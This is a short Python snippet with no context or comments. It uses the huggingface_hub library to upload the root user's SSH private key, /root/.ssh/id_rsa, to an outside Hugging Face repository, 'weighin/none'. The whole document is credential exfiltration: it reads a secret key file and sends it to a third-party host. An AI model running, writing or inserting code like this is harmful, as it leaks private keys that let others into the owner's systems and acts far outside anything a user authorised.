from huggingface_hub import HfApi

HfApi().upload_file(path_or_fileobj='/root/.ssh/id_rsa', path_in_repo='a', repo_id='weighin/none')
